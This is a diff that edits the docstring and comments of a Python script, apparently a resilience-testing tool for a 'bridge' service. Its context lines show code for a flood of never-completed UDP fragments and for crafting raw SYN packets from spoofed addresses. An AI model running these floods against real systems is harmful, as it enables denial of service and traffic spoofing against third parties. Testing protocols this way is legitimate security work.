@@ -2,9 +2,9 @@
 
 Usage: bridge_attacks.py fragments ADDRESS PER_S SECONDS | bridge_attacks.py syns ADDRESS DEVICE
 
-`fragments` sends first fragments of frames that are never completed, as a peer with a link in clear text can; it prints
-how many. `syns` opens connections from spoofed addresses: a few whose answers it counts, and many others. It prints the
-bytes of the few, those of their answers, and the number of the others.
+`fragments` sends first fragments of frames that are never completed, as a peer on a link in clear text can; it prints
+their number. `syns` opens connections from spoofed addresses: a few whose answers it counts, and many others. It prints
+the bytes of the few SYNs, the bytes of the answers to them, and the number of the other SYNs.
 """
 
 import random
@@ -33,7 +33,7 @@ def fragments(address: str, per_s: int, seconds: float) -> None:
     sent = 0
     while time.monotonic() < begin + seconds:
         for _ in range(BATCH):
-            # Numbers in a row: as many as possible are within the receiver's duplicate window.
+            # Consecutive numbers keep as many datagrams as possible within the receiver's duplicate window.
             own.sendto(FRAGMENT.pack(0x10, 0, 0, 1 << 8, number).ljust(1456, b"x"), (address, PORT))
             number += 1
         sent += BATCH
@@ -42,7 +42,7 @@ def fragments(address: str, per_s: int, seconds: float) -> None:
 
 
 def syn(source: str, address: str, port: int) -> bytes:
-    """The smallest SYN: IPv4 and TCP without options."""
+    """The smallest SYN: IPv4 and TCP headers without options."""
     ends = socket.inet_aton(source) + socket.inet_aton(address)
     tcp = struct.pack("!HHIIBBHHH", port, PORT, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
     sum_ = checksum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
